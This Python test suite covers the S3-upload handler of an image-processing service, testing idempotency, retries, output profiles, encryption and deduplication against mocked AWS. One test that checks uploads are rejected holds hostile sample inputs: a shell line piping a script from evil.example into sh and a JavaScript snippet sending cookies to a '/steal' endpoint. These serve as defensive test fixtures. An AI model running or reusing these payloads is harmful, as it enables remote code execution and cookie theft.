"""The S3-event handler, invoked as Lambda invokes it, against moto and real images: what the
state-machine tests on fakes (tests/test_pipeline.py) prove, once more through AWS's own APIs."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote_plus

import pytest
from botocore.exceptions import ClientError
from chalice.test import Client

from chalicelib import services
from tests import crafted, images
from tests.conftest import ENV, Aws, count_calls, invoke


def s3_event(key: str, etag: str, size: int, bucket: str = ENV["INPUT_BUCKET"]) -> dict[str, Any]:
    """What S3 sends for a presigned POST: the key URL-encoded, as real S3 does."""
    return {
        "Records": [
            {
                "eventVersion": "2.1",
                "eventSource": "aws:s3",
                "awsRegion": "us-east-1",
                "eventTime": "2026-11-24T00:00:00.000Z",
                "eventName": "ObjectCreated:Post",
                "s3": {
                    "s3SchemaVersion": "1.0",
                    "configurationId": "imgpress",
                    "bucket": {"name": bucket, "arn": f"arn:aws:s3:::{bucket}"},
                    "object": {"key": quote_plus(key), "size": size, "eTag": etag, "sequencer": "0055AED6DCD90281E5"},
                },
            }
        ]
    }


def new_upload(client: Client, content_type: str = "image/jpeg") -> str:
    response = client.http.post(
        "/uploads",
        headers={"Content-Type": "application/json"},
        body=json.dumps({"content_type": content_type, "filename": "f"}).encode(),
    )
    return str(json.loads(response.body)["id"])


def deliver(client: Client, aws: Aws, image_id: str, data: bytes) -> dict[str, Any]:
    """Upload `data` for `image_id` and invoke the handler with the resulting event."""
    obj = aws.upload(f"uploads/{image_id}", data)
    event = s3_event(f"uploads/{image_id}", obj["etag"], obj["size"])
    invoke(client, "handle_upload", event)
    return event


def record(client: Client, image_id: str) -> dict[str, Any]:
    return dict(json.loads(client.http.get(f"/images/{image_id}").body))


def fail_next(client: Any, operation: str, code: str = "InternalError", status: int = 500, skip: int = 0) -> None:
    """Make one `operation` through `client` (after `skip` good ones) fail as AWS does after its retries."""
    calls = [0]
    service = client.meta.service_model.service_name

    def hook(**_: Any) -> None:
        calls[0] += 1
        if calls[0] == skip + 1:
            raise ClientError(
                {"Error": {"Code": code, "Message": "injected"}, "ResponseMetadata": {"HTTPStatusCode": status}},
                operation,
            )

    client.meta.events.register(f"before-call.{service}.{operation}", hook)


def test_upload_is_processed_into_variants_with_metadata_and_one_notification(client: Client, aws: Aws) -> None:
    image_id = new_upload(client)
    data = images.jpeg(3000, 2000)
    deliver(client, aws, image_id, data)

    done = record(client, image_id)
    assert done["status"] == "done" and done["error"] is None
    assert done["original"] == {
        "format": "JPEG",
        "width": 3000,
        "height": 2000,
        "bytes": len(data),
        "bucket": ENV["INPUT_BUCKET"],
        "key": f"uploads/{image_id}",
    }
    assert done["profile"] == "default"
    assert {n: (o["width"], o["height"], o["format"]) for n, o in done["outputs"].items()} == {
        "web": (2048, 1365, "webp"),
        "thumb": (320, 213, "webp"),
    }
    assert done["savings"]["bytes"] == len(data) - done["outputs"]["web"]["bytes"] and done["savings"]["percent"] > 50
    web_key = done["outputs"]["web"]["key"]
    revision = web_key.split("/")[2]
    assert aws.output_keys() == [f"processed/{image_id}/{revision}/thumb.webp", web_key]
    head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=web_key)
    assert head["ContentType"] == "image/webp" and "max-age" in head["CacheControl"]
    assert head["ServerSideEncryption"] == "AES256"
    tags = aws.s3.get_object_tagging(Bucket=ENV["OUTPUT_BUCKET"], Key=web_key)["TagSet"]
    assert {t["Key"]: t["Value"] for t in tags} == {
        "imgpress:variant": "web",
        "imgpress:profile": "default",
        "imgpress:source-format": "JPEG",
    }
    assert head["ContentLength"] == done["outputs"]["web"]["bytes"]
    original = aws.s3.get_object(Bucket=ENV["INPUT_BUCKET"], Key=f"uploads/{image_id}")["Body"].read()
    assert original == data

    stored = aws.table.get_item(Key={"id": image_id})["Item"]
    assert stored["outputs"]["web"]["bucket"] == ENV["OUTPUT_BUCKET"]
    assert stored["input_bucket"] == ENV["INPUT_BUCKET"] and stored["completed_at"] >= stored["created_at"]
    [message] = aws.notifications()
    assert message["type"] == "image.done" and message["id"] == image_id and message["status"] == "done"
    assert message["profile"] == "default"
    assert (
        message["outputs"]["thumb"]["key"] == f"processed/{image_id}/{revision}/thumb.webp" and message["error"] is None
    )


def test_duplicate_delivery_writes_nothing_and_notifies_nothing(client: Client, aws: Aws) -> None:
    image_id = new_upload(client)
    event = deliver(client, aws, image_id, images.jpeg())
    calls: dict[str, int] = {}
    count_calls(services.s3(), "PutObject", calls)
    count_calls(services.s3(), "GetObject", calls)
    invoke(client, "handle_upload", event)
    invoke(client, "handle_upload", event)
    assert calls == {}
    assert len(aws.notifications()) == 1


@pytest.mark.parametrize("name", sorted(crafted.REJECTED))
def test_bad_user_data_fails_cleanly_once(client: Client, aws: Aws, name: str) -> None:
    build, code = crafted.REJECTED[name]
    data = build()
    image_id = new_upload(client)
    event = deliver(client, aws, image_id, data)  # returns normally: no Lambda retry
    failed = record(client, image_id)
    assert failed["status"] == "failed" and failed["error"]["code"] == code and failed["error"]["message"]
    assert failed["outputs"] == {} and aws.output_keys() == []
    assert aws.s3.get_object(Bucket=ENV["INPUT_BUCKET"], Key=f"uploads/{image_id}")["Body"].read() == data
    invoke(client, "handle_upload", event)  # a redelivery changes nothing
    [message] = aws.notifications()
    assert message["status"] == "failed" and message["error"]["code"] == code


def test_an_oversize_object_fails_as_too_large(client: Client, aws: Aws) -> None:
    """Real S3 refuses it by the POST policy; moto does not, so the handler's own check is tested."""
    image_id = new_upload(client)
    deliver(client, aws, image_id, b"\xff\xd8\xff" + bytes(26 * 1024 * 1024))
    assert record(client, image_id)["error"]["code"] == "too_large" and len(aws.notifications()) == 1


@pytest.mark.parametrize(
    "key", ["processed/abc/web.webp", "uploads/not-an-id", "uploads/a+b%20c", "uploads/" + "0" * 32]
)
def test_keys_that_are_not_pending_uploads_are_ignored(client: Client, aws: Aws, key: str) -> None:
    aws.s3.put_object(Bucket=ENV["INPUT_BUCKET"], Key=key, Body=images.jpeg(100, 100))
    invoke(client, "handle_upload", s3_event(key, "abc", 100))
    assert aws.notifications() == [] and aws.output_keys() == []


def test_the_bytes_last_uploaded_decide_whatever_event_comes_first(client: Client, aws: Aws) -> None:
    image_id = new_upload(client)
    first = aws.upload(f"uploads/{image_id}", images.jpeg(600, 400))
    second = aws.upload(f"uploads/{image_id}", images.jpeg(900, 600))
    invoke(client, "handle_upload", s3_event(f"uploads/{image_id}", first["etag"], first["size"]))
    assert record(client, image_id)["original"]["width"] == 900
    invoke(client, "handle_upload", s3_event(f"uploads/{image_id}", second["etag"], second["size"]))
    assert len(aws.notifications()) == 1


def _dynamodb() -> Any:
    return services.table().meta.client


THROTTLED = ("ProvisionedThroughputExceededException", 400)
FAULTS: list[tuple[str, Callable[[], Any], str, tuple[Any, ...]]] = [
    ("s3-get", services.s3, "GetObject", ()),
    ("s3-put-first", services.s3, "PutObject", ()),
    ("s3-put-second", services.s3, "PutObject", ("InternalError", 500, 1)),
    ("dynamodb-claim", _dynamodb, "PutItem", THROTTLED),
    ("dynamodb-complete", _dynamodb, "PutItem", (*THROTTLED, 1)),
    ("sns-publish", services.sns, "Publish", ()),
]


@pytest.mark.parametrize("name, client_of, operation, fault", FAULTS, ids=[f[0] for f in FAULTS])
def test_transient_faults_raise_then_a_retry_completes_exactly_once(
    client: Client, aws: Aws, name: str, client_of: Callable[[], Any], operation: str, fault: tuple[Any, ...]
) -> None:
    image_id = new_upload(client)
    obj = aws.upload(f"uploads/{image_id}", images.jpeg())
    event = s3_event(f"uploads/{image_id}", obj["etag"], obj["size"])
    fail_next(client_of(), operation, *fault)
    with pytest.raises(ClientError):
        invoke(client, "handle_upload", event)
    interim = record(client, image_id)
    if name != "sns-publish":
        assert interim["status"] in ("pending", "processing") and interim["outputs"] == {}
    invoke(client, "handle_upload", event)  # Lambda's retry
    assert record(client, image_id)["status"] == "done"
    assert len(aws.notifications()) == 1


def test_s3_test_event_is_ignored(client: Client, aws: Aws) -> None:
    client.lambda_.invoke(
        "handle_upload",
        {
            "Service": "Amazon S3",
            "Event": "s3:TestEvent",
            "Time": "2026-11-24T00:00:00.000Z",
            "Bucket": ENV["INPUT_BUCKET"],
        },
    )
    assert aws.notifications() == []


def test_keys_are_decoded_exactly_once(client: Client, aws: Aws) -> None:
    """S3 sends `uploads%2F<id>`; decoding twice would also turn a literal `%2B` into `+`."""
    image_id = new_upload(client)
    obj = aws.upload(f"uploads/{image_id}", images.jpeg(300, 200))
    event = s3_event(f"uploads/{image_id}", obj["etag"], obj["size"])
    assert event["Records"][0]["s3"]["object"]["key"] == f"uploads%2F{image_id}"
    invoke(client, "handle_upload", event)
    assert record(client, image_id)["status"] == "done"
    literal = f"uploads/{image_id[:-3]}%2B"  # decoded once it is not an id, so it must be ignored
    aws.s3.put_object(Bucket=ENV["INPUT_BUCKET"], Key=literal, Body=images.jpeg(50, 50))
    invoke(client, "handle_upload", s3_event(literal, "x", 10))
    assert len(aws.notifications()) == 1


@pytest.mark.parametrize(
    "profile, expected",
    [
        ("thumbnail200", {"thumbnail": ("jpeg", 200, 133)}),
        ("lowres-jpeg", {"lowres": ("jpeg", 360, 240)}),
        ("web800", {"web800": ("webp", 800, 533)}),
        ("avatar", {"avatar": ("webp", 512, 512), "avatar-small": ("webp", 128, 128)}),
    ],
)
def test_the_uploads_profile_decides_the_outputs(
    client: Client, aws: Aws, profile: str, expected: dict[str, tuple[str, int, int]]
) -> None:
    response = client.http.post(
        "/uploads",
        headers={"Content-Type": "application/json"},
        body=json.dumps({"content_type": "image/jpeg", "profile": profile}).encode(),
    )
    image_id = json.loads(response.body)["id"]
    deliver(client, aws, image_id, images.jpeg(1200, 800))
    done = record(client, image_id)
    assert {n: (o["format"], o["width"], o["height"]) for n, o in done["outputs"].items()} == expected
    [message] = aws.notifications()
    assert message["profile"] == profile and set(message["outputs"]) == set(expected)
    for output in done["outputs"].values():
        tags = aws.s3.get_object_tagging(Bucket=output["bucket"], Key=output["key"])["TagSet"]
        assert {"Key": "imgpress:profile", "Value": profile} in tags


def test_outputs_can_be_encrypted_with_a_kms_key(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
    import boto3

    key_id = boto3.client("kms").create_key()["KeyMetadata"]["KeyId"]
    monkeypatch.setenv("OUTPUT_SSE", "aws:kms")
    monkeypatch.setenv("KMS_KEY_ID", key_id)
    services.reset()
    image_id = new_upload(client)
    deliver(client, aws, image_id, images.jpeg(400, 300))
    web_key = record(client, image_id)["outputs"]["web"]["key"]
    head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=web_key)
    assert head["ServerSideEncryption"] == "aws:kms" and key_id in head["SSEKMSKeyId"]


def upload_as(client: Client, aws: Aws, data: bytes, content_type: str, profile: str | None = None) -> str:
    body = {"content_type": content_type, **({"profile": profile} if profile else {})}
    response = client.http.post(
        "/uploads", headers={"Content-Type": "application/json"}, body=json.dumps(body).encode()
    )
    image_id = str(json.loads(response.body)["id"])
    deliver(client, aws, image_id, data)
    return image_id


def test_an_allowed_format_declared_as_another_is_processed_and_flagged(client: Client, aws: Aws) -> None:
    image_id = upload_as(client, aws, images.png(400, 300), "image/jpeg")
    done = record(client, image_id)
    assert done["status"] == "done" and done["type_mismatch"] is True
    assert done["declared_content_type"] == "image/jpeg" and done["original"]["format"] == "PNG"
    head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=done["outputs"]["web"]["key"])
    assert head["ContentType"] == "image/webp"
    honest = record(client, upload_as(client, aws, images.png(400, 300), "image/png"))
    assert honest["type_mismatch"] is False


@pytest.mark.parametrize(
    "data",
    [
        crafted.svg_with_script(),
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n",
        b"#!/bin/sh\ncurl https://evil.example | sh\n",
        b"(function(){fetch('/steal?c='+document.cookie)})();",
    ],
    ids=["svg", "html", "pdf", "shell", "javascript"],
)
def test_documents_disguised_as_images_fail_as_unsupported_format(client: Client, aws: Aws, data: bytes) -> None:
    failed = record(client, upload_as(client, aws, data, "image/webp"))
    assert failed["status"] == "failed" and failed["error"]["code"] == "unsupported_format"
    assert aws.output_keys() == []


def test_content_hash_is_recorded_and_searchable(client: Client, aws: Aws) -> None:
    import hashlib

    data = images.jpeg(500, 400)
    first, second = upload_as(client, aws, data, "image/jpeg"), upload_as(client, aws, data, "image/jpeg")
    other = upload_as(client, aws, images.jpeg(501, 400), "image/jpeg")
    digest = hashlib.sha256(data).hexdigest()
    assert record(client, first)["sha256"] == digest
    found = json.loads(client.http.get(f"/images?sha256={digest}").body)["items"]
    assert [item["id"] for item in found] == [second, first]
    assert other not in {item["id"] for item in found}
    assert json.loads(client.http.get(f"/images?sha256={digest}&status=failed").body)["items"] == []
    assert client.http.get("/images?sha256=xyz").status_code == 400


def test_dedupe_copies_outputs_server_side(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEDUPE", "true")
    services.reset()
    data = images.jpeg(900, 600)
    first = upload_as(client, aws, data, "image/jpeg")
    calls: dict[str, int] = {}
    for operation in ("PutObject", "CopyObject"):
        count_calls(services.s3(), operation, calls)
    second = upload_as(client, aws, data, "image/jpeg")
    assert calls == {"CopyObject": 2}  # no PutObject: nothing was decoded or encoded
    twin, copy = record(client, first), record(client, second)
    assert copy["status"] == "done" and copy["deduplicated_from"] == first
    assert {n: (o["width"], o["bytes"]) for n, o in copy["outputs"].items()} == {
        n: (o["width"], o["bytes"]) for n, o in twin["outputs"].items()
    }
    copy_key, twin_key = copy["outputs"]["web"]["key"], twin["outputs"]["web"]["key"]
    assert copy_key.startswith(f"processed/{second}/") and copy_key.endswith("/web.webp")
    copied = aws.s3.get_object(Bucket=ENV["OUTPUT_BUCKET"], Key=copy_key)
    assert (
        copied["ContentType"] == "image/webp"
        and copied["Body"].read() == aws.s3.get_object(Bucket=ENV["OUTPUT_BUCKET"], Key=twin_key)["Body"].read()
    )
    other_profile = record(client, upload_as(client, aws, data, "image/jpeg", profile="thumbnail200"))
    assert other_profile.get("deduplicated_from") is None
    messages = aws.notifications()
    assert [m["id"] for m in messages].count(second) == 1
    assert next(m for m in messages if m["id"] == second)["deduplicated_from"] == first


def test_stable_output_urls_and_markup(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
    image_id = upload_as(client, aws, images.jpeg(3000, 2000), "image/jpeg")
    signed = record(client, image_id)
    assert "X-Amz-Signature" in signed["outputs"]["web"]["url"]
    monkeypatch.setenv("OUTPUT_BASE_URL", "https://cdn.example.com/")
    services.reset()
    first, again = record(client, image_id), record(client, image_id)
    web, thumb = first["outputs"]["web"], first["outputs"]["thumb"]
    assert web["url"] == f"https://cdn.example.com/{web['key']}" == again["outputs"]["web"]["url"]
    assert first["markup"] == {
        "width": 2048,
        "height": 1365,
        "srcset": {"webp": f"{thumb['url']} 320w, {web['url']} 2048w"},
    }


def test_done_images_carry_placeholders_from_the_smallest_variant(client: Client, aws: Aws) -> None:
    image_id = upload_as(client, aws, images.jpeg(1600, 1200), "image/jpeg")
    placeholders = record(client, image_id)["placeholders"]
    assert set(placeholders) == {"thumbhash", "blurhash", "dominant_color", "lqip"}
    assert len(placeholders["blurhash"]) == 4 + 2 * 4 * 3  # 4x3 components by default
    assert placeholders["lqip"].startswith("data:image/webp;base64,") and len(placeholders["lqip"]) <= 1024
    [message] = aws.notifications()
    assert message["placeholders"] == placeholders
    failed = record(client, upload_as(client, aws, b"not an image", "image/png"))
    assert failed["placeholders"] is None
